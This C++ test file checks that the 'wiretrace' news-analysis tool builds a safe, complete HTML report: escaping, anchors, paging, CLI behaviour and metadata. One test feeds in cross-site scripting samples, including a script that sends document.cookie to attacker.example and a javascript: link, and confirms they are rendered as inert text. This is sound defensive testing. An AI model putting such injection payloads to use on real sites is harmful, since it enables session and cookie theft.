// report_test.cpp — the text version of the analysis (src/report/report.h): what a reader of
// report.html must find (every seed article, claim and flagged difference, the anchors others
// link to), hostile article text staying text, and a large corpus split into pages.

#include "cli_run.h"
#include "core/analyze.h"
#include "core/corpus.h"
#include "report/report.h"

#include <gtest/gtest.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <regex>
#include <set>
#include <sstream>

using namespace wiretrace;

namespace {

const Analysis& seeds() {
    static const Analysis a = analyze(load_corpus({std::string(WIRETRACE_SOURCE_DIR) + "/corpus"}));
    return a;
}

Article make_article(const std::string& id, const std::string& outlet, const std::string& title,
                     const std::string& text) {
    Article a;
    a.id = id;
    a.outlet = outlet;
    a.title = title;
    a.date = "2024-12-06";
    a.text = text;
    return a;
}

std::size_t count(const std::string& hay, const std::string& needle) {
    std::size_t n = 0;
    for (std::size_t p = hay.find(needle); p != std::string::npos; p = hay.find(needle, p + 1)) ++n;
    return n;
}

} // namespace

TEST(Report, EscapesEveryMarkupCharacter) {
    EXPECT_EQ(html_escape("<script>alert('x')</script> & \"q\""),
              "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; &quot;q&quot;");
    EXPECT_EQ(html_escape(std::string("a\0b\x01" "c\n", 6)), "a b c\n"); // controls are not HTML
    EXPECT_EQ(html_escape("Homs — “the mother of all battles”"), "Homs — “the mother of all battles”");
}

TEST(Report, ArticleAnchorsAreValidAndDistinct) {
    EXPECT_EQ(article_anchor("003_1d4940750912eb2c"), "article-003_1d4940750912eb2c");
    EXPECT_EQ(article_anchor("a b"), "article-a~20b");
    EXPECT_NE(article_anchor("a b"), article_anchor("a~20b")); // '~' itself is encoded
    EXPECT_EQ(article_anchor("x\"><script>"), "article-x~22~3E~3Cscript~3E");
}

TEST(Report, HostileArticleTextStaysText) {
    Corpus corpus;
    const std::string shared =
        "The minister said \"We will <b>not</b> retreat\" & promised 5,000 troops by Friday. ";
    corpus.articles.push_back(make_article(
        "evil\"<id>", "<script>alert(1)</script> News", "Title with <img src=x onerror=alert(1)>",
        shared + "<script>document.location='http://attacker.example/'+document.cookie</script>\n\n"
                 "Subscribe to our <iframe src=//x> newsletter."));
    corpus.articles.back().url = "javascript:alert(document.cookie)";
    corpus.articles.push_back(make_article("plain", "O'Brien & Sons Gazette", "A 'quoted' title",
                                           shared + "Officials said 'no comment' on the report."));
    corpus.articles.back().url = "https://example.org/story?a=1&b=2";
    const Analysis a = analyze(std::move(corpus));
    const auto files = build_report(a);
    ASSERT_EQ(files.size(), 1u);
    const std::string& html = files[0].html;
    // No markup from the corpus survives as markup: the only tags are the report's own.
    EXPECT_EQ(html.find("<script"), std::string::npos);
    EXPECT_EQ(html.find("<img"), std::string::npos);
    EXPECT_EQ(html.find("<iframe"), std::string::npos);
    EXPECT_EQ(html.find("<b>not"), std::string::npos);
    EXPECT_NE(html.find("&lt;script&gt;document.location=&#39;http://attacker.example/&#39;"), std::string::npos);
    EXPECT_NE(html.find("Title with &lt;img src=x onerror=alert(1)&gt;"), std::string::npos);
    EXPECT_NE(html.find("O&#39;Brien &amp; Sons Gazette"), std::string::npos);
    EXPECT_EQ(html.find("href=\"javascript:"), std::string::npos) << "a script address is never a link";
    EXPECT_NE(html.find("href=\"https://example.org/story?a=1&amp;b=2\""), std::string::npos);
    EXPECT_NE(html.find("id=\"article-evil~22~3Cid~3E\""), std::string::npos);
    // The app's deep link percent-encodes the id, so the hash cannot break out of the attribute.
    EXPECT_NE(html.find("index.html#view=reader&amp;article=evil%22%3Cid%3E"), std::string::npos);
}

TEST(Report, SeedReportHoldsEveryTitleClaimAndDifference) {
    const Analysis& a = seeds();
    const auto files = build_report(a);
    ASSERT_EQ(files.size(), 1u) << "five articles fit one page";
    EXPECT_EQ(files[0].name, "report.html");
    const std::string& html = files[0].html;
    for (const Article& art : a.corpus.articles) {
        EXPECT_NE(html.find(html_escape(art.title)), std::string::npos) << art.title;
        EXPECT_EQ(count(html, "id=\"" + article_anchor(art.id) + "\""), 1u) << art.id;
        EXPECT_NE(html.find("#view=reader&amp;article=" + art.id), std::string::npos) << art.id;
    }
    ASSERT_FALSE(a.claims.empty());
    std::size_t differences = 0;
    for (const Claim& cl : a.claims) {
        EXPECT_EQ(count(html, "id=\"claim-" + std::to_string(cl.id) + "\""), 1u) << cl.id;
        EXPECT_NE(html.find(html_escape(cl.label)), std::string::npos) << cl.label;
        for (const ClaimDifference& d : cl.differences) {
            ++differences;
            EXPECT_NE(html.find(html_escape(d.detail)), std::string::npos) << d.detail;
        }
    }
    EXPECT_GT(differences, 0u) << "the seeds have flagged differences (a rewritten quote, a changed number)";
    for (const Passage& p : a.passages)
        EXPECT_EQ(count(html, "id=\"passage-" + std::to_string(p.id) + "\""), 1u) << p.id;
    // Shared text is marked and its source named in words, furniture labelled, charts described.
    EXPECT_NE(html.find("<mark class=\"v\">"), std::string::npos);
    EXPECT_NE(html.find("[verbatim from <a href=\"#article-"), std::string::npos);
    EXPECT_NE(html.find("[page furniture]"), std::string::npos);
    EXPECT_NE(html.find("<title id=\"chart-origin-title\">"), std::string::npos);
    EXPECT_NE(html.find("<desc id=\"chart-claims-desc\">"), std::string::npos);
    EXPECT_EQ(html.find("<script"), std::string::npos) << "the report needs no JavaScript";
    EXPECT_EQ(html.find("src=\"http"), std::string::npos) << "no external request";
    EXPECT_NE(html.find("prefers-color-scheme:dark"), std::string::npos);
    EXPECT_NE(html.find("@media print"), std::string::npos);
}

TEST(Report, LargeCorpusIsPagedAndEveryLinkFindsItsAnchor) {
    // 230 pickups of one short wire text, each with a line of its own: 3 pages of articles.
    Corpus corpus;
    for (int i = 0; i < 230; ++i) {
        char id[16];
        std::snprintf(id, sizeof id, "a%03d", i);
        corpus.articles.push_back(make_article(
            id, "Outlet " + std::to_string(i % 40), "Pickup " + std::to_string(i),
            "Insurgents entered two central towns early Friday, a war monitor said. The army "
            "withdrew from the city of Hama a day earlier. Local reporter number " +
                std::to_string(i) + " adds a line of its own about the market."));
    }
    const Analysis a = analyze(std::move(corpus));
    const auto files = build_report(a);
    std::map<std::string, std::string> by_name;
    for (const ReportFile& f : files) by_name[f.name] = f.html;
    ASSERT_TRUE(by_name.count("report.html"));
    ASSERT_TRUE(by_name.count("report-articles-1.html"));
    ASSERT_TRUE(by_name.count("report-articles-3.html"));
    EXPECT_FALSE(by_name.count("report-articles-4.html"));
    // Each article is on exactly one page, at most 100 to a page, and not on the index.
    std::size_t total = 0;
    for (const auto& [name, html] : by_name) {
        const std::size_t n = count(html, "<section class=\"article\"");
        EXPECT_LE(n, 100u) << name;
        if (name == "report.html") EXPECT_EQ(n, 0u);
        total += n;
    }
    EXPECT_EQ(total, 230u);
    // Every claim has one anchor in the whole report (a claim one article alone makes is listed,
    // with its anchor, under that article), so report.html#claim-N style links never dangle.
    for (const Claim& cl : a.claims) {
        std::size_t anchors = 0;
        for (const auto& [name, html] : by_name) anchors += count(html, "id=\"claim-" + std::to_string(cl.id) + "\"");
        EXPECT_EQ(anchors, 1u) << "claim " << cl.id;
    }
    EXPECT_NE(by_name["report.html"].find("<h2 id=\"pages\">"), std::string::npos);
    // Every link to another page of the report lands on an anchor that page has.
    const std::regex link("href=\"(report[-a-z0-9]*\\.html)?#([^\"]+)\"");
    std::size_t checked = 0;
    for (const auto& [name, html] : by_name) {
        for (auto it = std::sregex_iterator(html.begin(), html.end(), link); it != std::sregex_iterator(); ++it) {
            const std::string target = (*it)[1].matched ? (*it)[1].str() : name;
            ASSERT_TRUE(by_name.count(target)) << name << " links to missing " << target;
            EXPECT_NE(by_name[target].find("id=\"" + (*it)[2].str() + "\""), std::string::npos)
                << name << " links to " << target << "#" << (*it)[2].str();
            ++checked;
        }
    }
    EXPECT_GT(checked, 230u);
}

// A site rebuilt with a smaller corpus must not keep the pages of the larger one: they would be
// published beside the new report, holding another corpus's articles.
TEST(Report, CliRemovesPagesAnEarlierLargerReportLeft) {
    const std::string dir = ::testing::TempDir() + "wt_report_stale/";
    std::filesystem::remove_all(dir);
    std::filesystem::create_directories(dir);
    auto touch = [&](const std::string& name) { std::ofstream(dir + name) << "old"; };
    touch("report-articles-1.html");
    touch("report-articles-12.html");
    touch("report-passages-3.html");
    touch("report-articles-notes.html"); // not a page name: kept
    touch("other-articles-1.html");      // another report's page: kept
    auto r = wiretrace_test::run_cli("report " + std::string(WIRETRACE_SOURCE_DIR) + "/corpus --html " + dir +
                                     "report.html");
    ASSERT_EQ(r.status, 0) << r.output;
    EXPECT_NE(r.output.find("removed 3 pages of an earlier report"), std::string::npos) << r.output;
    std::set<std::string> left;
    for (const auto& e : std::filesystem::directory_iterator(dir)) left.insert(e.path().filename().string());
    EXPECT_EQ(left, (std::set<std::string>{"report.html", "report-articles-notes.html", "other-articles-1.html"}));
    std::filesystem::remove_all(dir);
}

TEST(Report, CliWritesTheReportAndRefusesBadUsage) {
    const std::string out = ::testing::TempDir() + "wt_report_cli.html";
    std::remove(out.c_str());
    auto r = wiretrace_test::run_cli("report " + std::string(WIRETRACE_SOURCE_DIR) + "/corpus --html " + out);
    ASSERT_EQ(r.status, 0) << r.output;
    std::ifstream f(out);
    std::stringstream ss;
    ss << f.rdbuf();
    EXPECT_NE(ss.str().find("<h2 id=\"claims\">"), std::string::npos);
    // The seed report stays small enough to publish and print: at most 150 KB gzip.
    auto gz = wiretrace_test::run_command("gzip -9 -c " + out + " | wc -c");
    ASSERT_EQ(gz.status, 0);
    EXPECT_LE(std::stol(gz.output), 150 * 1024) << "seed report, gzip bytes";
    EXPECT_EQ(wiretrace_test::run_cli("report " + std::string(WIRETRACE_SOURCE_DIR) + "/corpus").status, 2);
    r = wiretrace_test::run_cli("report /nonexistent-wt --html " + out);
    EXPECT_EQ(r.status, 1) << r.output;
    std::remove(out.c_str());
}

TEST(Report, FromTheAnalysisJsonIsTheSameReport) {
    // The build writes the report from the analysis it already made (`report --analysis`) rather
    // than analysing the corpus a second time: the report must be the one the corpus gives, byte
    // for byte (the seeds fill every section).
    const std::string dir = ::testing::TempDir() + "wt_report_from_json/";
    std::filesystem::remove_all(dir);
    std::filesystem::create_directories(dir);
    const std::string corpus = std::string(WIRETRACE_SOURCE_DIR) + "/corpus";
    auto slurp = [](const std::string& path) {
        std::ifstream f(path, std::ios::binary);
        std::stringstream ss;
        ss << f.rdbuf();
        return ss.str();
    };
    ASSERT_EQ(wiretrace_test::run_cli("analyze " + corpus + " --json " + dir + "analysis.json").status, 0);
    auto direct = wiretrace_test::run_cli("report " + corpus + " --html " + dir + "direct.html");
    ASSERT_EQ(direct.status, 0) << direct.output;
    auto read = wiretrace_test::run_cli("report --analysis " + dir + "analysis.json --html " + dir + "read.html");
    ASSERT_EQ(read.status, 0) << read.output;
    const std::string a = slurp(dir + "direct.html"), b = slurp(dir + "read.html");
    ASSERT_GT(a.size(), 10000u);
    EXPECT_TRUE(a == b) << "the report from analysis.json differs from the report from the corpus";

    // A broken or missing analysis file is named, and nothing is written.
    std::ofstream(dir + "broken.json") << "{\"version\":2,";
    auto bad = wiretrace_test::run_cli("report --analysis " + dir + "broken.json --html " + dir + "bad.html");
    EXPECT_EQ(bad.status, 1);
    EXPECT_NE(bad.output.find(dir + "broken.json: "), std::string::npos) << bad.output;
    EXPECT_FALSE(std::filesystem::exists(dir + "bad.html"));
    auto missing = wiretrace_test::run_cli("report --analysis " + dir + "none.json --html " + dir + "bad.html");
    EXPECT_EQ(missing.status, 1);
    EXPECT_NE(missing.output.find(dir + "none.json: "), std::string::npos) << missing.output;
    EXPECT_EQ(wiretrace_test::run_cli("report " + corpus + " --analysis " + dir + "analysis.json --html " + dir +
                                      "bad.html").status, 2);
    std::filesystem::remove_all(dir);
}

TEST(Report, OutletMetadataIsShownWhereGivenAndEscaped) {
    Corpus corpus = load_corpus({std::string(WIRETRACE_SOURCE_DIR) + "/tests/data/outlet-metadata"});
    corpus.articles[1].owner = "Example <Media> & Group";
    const Analysis a = analyze(std::move(corpus));
    const std::string html = build_report(a)[0].html;
    // Once in the "who carries whose text" table, once in the article's own header line.
    EXPECT_EQ(count(html, "country: Atlantis \u00b7 owner: Example &lt;Media&gt; &amp; Group \u00b7 lean: centre-right"), 2u);
    EXPECT_EQ(count(html, "country: Atlantis \u00b7 owner: Example Wire Cooperative"), 2u);
    EXPECT_EQ(count(html, "lean: "), 2u) << "the article without a lean gets none invented";
    EXPECT_EQ(build_report(seeds())[0].html.find("country: "), std::string::npos);
}
